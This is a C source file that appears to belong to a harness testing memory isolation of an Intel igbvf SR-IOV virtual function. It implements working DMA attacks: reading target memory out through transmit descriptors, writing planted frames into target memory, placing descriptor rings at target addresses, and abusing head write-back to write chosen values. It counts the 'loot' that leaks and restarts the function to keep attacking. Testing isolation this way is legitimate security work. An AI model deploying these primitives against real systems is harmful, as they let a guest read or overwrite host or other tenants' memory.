/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Descriptor 0 of each ring is enough for every attempt but the one that reads, which takes two: our
 * header, so that the frame gets through the switch, and what lies at the target behind it.
 */
#include <string.h>
#include "guests/net/attack.h"
#include "guests/net/igbvf_regs.h"
#include "guests/rt/cpu.h"

#define ETHERNET_BYTES 14u
#define STOLEN_BYTES   512u /* of one attempt */
#define PLANTED_BYTES  512u
#define PLANT          0xd5u
#define SETTLE_MS      2u

const char *attack_name(enum attack attack)
{
	static const char *const names[] = {
		[ATTACK_READ] = "dma-read",
		[ATTACK_WRITE] = "dma-write",
		[ATTACK_TRANSMIT_RING] = "dma-transmit-ring",
		[ATTACK_RECEIVE_RING] = "dma-receive-ring",
		[ATTACK_HEAD] = "dma-head-write-back",
	};

	return names[attack];
}

static uint32_t get(const struct port *p, uint32_t reg)
{
	return p->vf.io.read(p->vf.io.context, reg);
}

static void set(const struct port *p, uint32_t reg, uint32_t value)
{
	p->vf.io.write(p->vf.io.context, reg, value);
}

static void set_address(const struct port *p, uint32_t low_reg, uint64_t value)
{
	set(p, low_reg, (uint32_t)value);
	set(p, low_reg + 4, (uint32_t)(value >> 32));
}

/* --- frames of ours --------------------------------------------------------------------------- */

static void write_header(uint8_t *room, const struct port *from, const struct port *to)
{
	memcpy(room, to->vf.mac, FRAME_MAC_BYTES);
	memcpy(room + FRAME_MAC_BYTES, from->vf.mac, FRAME_MAC_BYTES);
	room[2 * FRAME_MAC_BYTES] = FRAME_TYPE >> 8;
	room[2 * FRAME_MAC_BYTES + 1] = FRAME_TYPE & 0xff;
}

static bool plant(const struct attack_pair *pair)
{
	uint8_t *room = igbvf_send_buffer(&pair->helper->vf);

	if (!room)
		return false;
	write_header(room, pair->helper, pair->attacker);
	memset(room + ETHERNET_BYTES, PLANT, PLANTED_BYTES - ETHERNET_BYTES);
	igbvf_send(&pair->helper->vf, PLANTED_BYTES);
	return true;
}

/* Constant bytes are what a refused read may look like; nothing worth stealing is constant. */
static bool is_loot(const struct attack_pair *pair, const uint8_t *data, uint32_t bytes)
{
	if (memcmp(data + FRAME_MAC_BYTES, pair->attacker->vf.mac, FRAME_MAC_BYTES) != 0)
		return false;
	for (uint32_t i = ETHERNET_BYTES + 1; i < bytes && i < ETHERNET_BYTES + STOLEN_BYTES; i++)
		if (data[i] != data[ETHERNET_BYTES])
			return true;
	return false;
}

/* Empties the helper's ring. */
static uint32_t count_loot(const struct attack_pair *pair)
{
	uint32_t bytes, count = 0;
	const uint8_t *data;

	while ((data = igbvf_receive(&pair->helper->vf, &bytes)) != NULL) {
		count += is_loot(pair, data, bytes);
		igbvf_receive_done(&pair->helper->vf);
	}
	return count;
}

/* --- queues ----------------------------------------------------------------------------------- */

static bool wait_until(const struct port *p, uint32_t reg, uint32_t mask, uint32_t value)
{
	const uint64_t until_tsc = cpu_rdtsc() + port_ticks_from_ms(SETTLE_MS);

	while ((get(p, reg) & mask) != value)
		if (cpu_rdtsc() >= until_tsc)
			return false;
	return true;
}

static void turn_off(const struct port *p, uint32_t dctl_reg)
{
	set(p, dctl_reg, 0);
	wait_until(p, dctl_reg, IGBVF_DCTL_ENABLE, 0);
}

static void turn_on(const struct port *p, uint32_t dctl_reg)
{
	set(p, dctl_reg, IGBVF_DCTL_ENABLE | IGBVF_DCTL_WTHRESH(1));
	wait_until(p, dctl_reg, IGBVF_DCTL_ENABLE, IGBVF_DCTL_ENABLE);
}

/* Both rings empty, at `rx` and `tx`, with all else as the driver has it. */
static void place_rings(const struct port *p, uint64_t rx, uint64_t tx)
{
	turn_off(p, IGBVF_RXDCTL);
	turn_off(p, IGBVF_TXDCTL);
	set_address(p, IGBVF_RDBAL, rx);
	set_address(p, IGBVF_TDBAL, tx);
	set(p, IGBVF_RDH, 0);
	set(p, IGBVF_RDT, 0);
	set(p, IGBVF_TDH, 0);
	set(p, IGBVF_TDT, 0);
	turn_on(p, IGBVF_RXDCTL);
	turn_on(p, IGBVF_TXDCTL);
}

static bool transmit(const struct port *p, uint32_t count)
{
	__atomic_thread_fence(__ATOMIC_RELEASE); /* descriptors before the tail */
	set(p, IGBVF_TDT, count);
	return wait_until(p, IGBVF_TDH, UINT32_MAX, count);
}

static void write_transmit(struct igbvf_desc *desc, uint64_t from, uint32_t bytes, uint64_t more)
{
	desc->lo = from;
	desc->hi = bytes | IGBVF_TX_DATA | IGBVF_TX_ADVANCED | more;
}

/* Returns whether the queue moved. */
static bool receive_to(const struct attack_pair *pair, uint64_t ring, uint64_t target)
{
	const struct port *p = pair->attacker;

	place_rings(p, ring, (uint64_t)p->vf.memory->tx);
	p->vf.memory->rx[0].lo = target;
	p->vf.memory->rx[0].hi = 0;
	__atomic_thread_fence(__ATOMIC_RELEASE); /* the descriptor before the tail */
	set(p, IGBVF_RDT, 1);
	return plant(pair) && wait_until(p, IGBVF_RDH, UINT32_MAX, 1);
}

static bool send_from(const struct attack_pair *pair, uint64_t target)
{
	const struct port *p = pair->attacker;
	struct igbvf_memory *m = p->vf.memory;

	place_rings(p, (uint64_t)m->rx, (uint64_t)m->tx);
	write_header(m->tx_buffer[0], p, pair->helper);
	write_transmit(&m->tx[0], (uint64_t)m->tx_buffer[0], ETHERNET_BYTES,
		       IGBVF_TX_PACKET(ETHERNET_BYTES + STOLEN_BYTES));
	write_transmit(&m->tx[1], target, STOLEN_BYTES,
		       IGBVF_TX_LAST | IGBVF_TX_CRC | IGBVF_TX_REPORT);
	return transmit(p, 2);
}

/* `head` frames are sent: so much is the number that the device writes, once, after the last. */
static bool write_head_to(const struct attack_pair *pair, uint64_t target, uint32_t head)
{
	const struct port *p = pair->attacker;
	struct igbvf_memory *m = p->vf.memory;
	bool has_moved;

	place_rings(p, (uint64_t)m->rx, (uint64_t)m->tx);
	write_header(m->tx_buffer[0], p, pair->helper);
	memset(m->tx_buffer[0] + ETHERNET_BYTES, PLANT, FRAME_BYTES_MIN - ETHERNET_BYTES);
	for (uint32_t i = 0; i < head; i++)
		write_transmit(&m->tx[i], (uint64_t)m->tx_buffer[0], FRAME_BYTES_MIN,
			       IGBVF_TX_PACKET(FRAME_BYTES_MIN) | IGBVF_TX_LAST | IGBVF_TX_CRC |
				       (i + 1 == head ? IGBVF_TX_REPORT : 0));
	set_address(p, IGBVF_TDWBAL, target | IGBVF_TDWBAL_ENABLE);
	has_moved = transmit(p, head);
	set_address(p, IGBVF_TDWBAL, 0);
	return has_moved;
}

static bool transmit_ring_at(const struct attack_pair *pair, uint64_t target)
{
	const struct port *p = pair->attacker;

	place_rings(p, (uint64_t)p->vf.memory->rx, target);
	return transmit(p, 1);
}

/* --- attempts --------------------------------------------------------------------------------- */

static bool attempt(const struct attack_pair *pair, enum attack attack, uint64_t target)
{
	switch (attack) {
	case ATTACK_READ:
		return send_from(pair, target);
	case ATTACK_WRITE:
		return receive_to(pair, (uint64_t)pair->attacker->vf.memory->rx, target);
	case ATTACK_TRANSMIT_RING:
		return transmit_ring_at(pair, target);
	case ATTACK_RECEIVE_RING:
		return receive_to(pair, target, 0);
	case ATTACK_HEAD:
		return write_head_to(pair, target, 1);
	case ATTACK_COUNT:
		break;
	}
	return false;
}

/* A queue that has met an error may hang until the VF is reset: the attack goes on after that. */
static bool settle(struct attack_pair *pair, bool has_moved, struct attack_tally *tally)
{
	tally->attempts++;
	tally->moved += has_moved;
	tally->leaked += count_loot(pair);
	if (has_moved)
		return true;
	pair->restarts++;
	return port_restart(pair->attacker);
}

bool attack_once(struct attack_pair *pair, enum attack attack, uint64_t target,
		 struct attack_tally *tally)
{
	return settle(pair, attempt(pair, attack, target), tally);
}

bool attack_message(struct attack_pair *pair, uint64_t address, uint8_t data,
		    struct attack_tally *tally)
{
	return settle(pair, write_head_to(pair, address, data), tally);
}
